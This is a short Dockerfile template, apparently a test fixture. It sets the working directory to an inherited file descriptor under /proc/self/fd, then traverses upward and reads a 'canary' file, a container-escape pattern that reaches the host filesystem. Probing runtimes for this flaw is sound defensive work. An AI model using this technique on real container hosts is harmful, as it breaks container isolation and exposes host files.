# A working directory that is a descriptor of whoever starts the step.
FROM busybox
WORKDIR /proc/self/fd/{fd}
RUN ls ../../../.. && cat ./canary
